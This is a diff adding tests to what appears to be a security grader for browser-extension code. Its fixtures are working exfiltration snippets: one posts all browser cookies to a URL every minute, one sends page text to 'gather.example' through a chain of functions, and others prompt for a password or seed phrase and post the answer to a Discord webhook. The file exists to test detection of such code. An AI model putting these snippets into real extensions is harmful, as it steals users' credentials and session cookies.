@@ -40,6 +40,37 @@ async function graded({ content, background, popup, manifest }: Parts): Promise<
 const ALL_COOKIES = (to: string): string =>
   `setInterval(() => chrome.cookies.getAll({}, (all) => fetch(${to}, { method: 'POST', body: JSON.stringify(all) })), 60000);`;
 
+describe('a long way in a small program', () => {
+  const long = `function post(to, card) { fetch(to, { method: 'POST', body: JSON.stringify(card) }); }
+    function sixth(list) { post('https://gather.example/x', { fields: [{ name: 'said', value: list[0].one }] }); }
+    function fifth(list) { sixth(list); }
+    function fourth(list) { fifth(list); }
+    function third(list) { fourth(list); }
+    function second(box) { third([box]); }
+    function first(one) { second({ one }); }
+    setInterval(() => first(document.body.innerText), 5000);`;
+
+  it('is believed, and among much other code it is a hint at most', async () => {
+    const other = Array.from({ length: 4000 }, (_, i) => `function f${i}(a, b) { return [a.x${i}, b].concat(a); }`);
+    expect(await graded({ content: long })).toMatch(/[DF]/);
+    expect(await graded({ content: `${long}\n${other.join('\n')}` })).toMatch(/A/);
+  });
+});
+
+describe('what is answered to a prompt', () => {
+  const ask = (question: string, to: string): string =>
+    `const said = prompt('${question}'); fetch('${to}', { method: 'POST', body: JSON.stringify({ said }) });`;
+  const HOOK = 'https://discord.com/api/webhooks/1/2';
+
+  it('is a stolen password where a channel gets it, from a page or from the background', async () => {
+    expect(await graded({ content: ask('Your password:', HOOK) })).toBe('F');
+    expect(await graded({ background: ask('Enter your seed phrase', HOOK) })).toBe('F');
+  });
+  it('is given knowingly where it is no secret of an account', async () => {
+    expect(await graded({ content: ask('API key', 'https://api.example/v1') })).toMatch(/^A/);
+  });
+});
+
 describe('the table of sendings', () => {
   it('never weighs an asked sending more than one that happens by itself', () => {
     for (const [data, row] of Object.entries(BY_ITSELF))
